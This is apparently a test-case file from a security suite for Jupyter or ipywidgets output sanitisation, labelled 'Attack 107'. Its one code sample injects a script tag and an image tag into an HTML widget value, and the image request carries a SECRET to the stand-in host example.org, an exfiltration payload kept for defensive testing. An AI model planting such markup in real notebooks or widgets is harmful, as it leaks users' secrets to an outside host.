"""Attack 107: widget html"""

IDEA = "A script in the value of an HTML widget."
SOURCE = "ipywidgets, HTML"
WAY = "iopub/comm_open/data"
CODE = """
import ipywidgets

box = ipywidgets.HTML('x<script>%s</script><img src="//example.org/%s">' % (SECRET, SECRET))
"""
ABSENT = ["SECRET"]
